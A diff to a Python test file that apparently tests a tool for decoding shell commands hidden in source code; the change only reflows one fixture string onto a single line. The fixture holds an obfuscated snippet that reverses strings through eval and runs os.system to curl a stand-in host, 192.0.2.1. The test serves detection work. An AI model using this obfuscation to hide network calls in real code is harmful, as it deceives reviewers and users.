@@ -41,9 +41,7 @@ def test_a_loop_that_cannot_be_computed_is_walked() -> None:
 
 def test_an_expression_in_a_text_is_computed_each_time() -> None:
     """A decoder whose steps stand in texts gives something else for each piece that it is handed."""
-    source = (
-        "import os\ndef f(x):\n    return eval('x[::-1]')\nos.system(f(' lruc') + f('a/1.2.0.291//:ptth'))\n"
-    )
+    source = "import os\ndef f(x):\n    return eval('x[::-1]')\nos.system(f(' lruc') + f('a/1.2.0.291//:ptth'))\n"
     assert _commands(source) == ["curl http://192.0.2.1/a"]
 
 
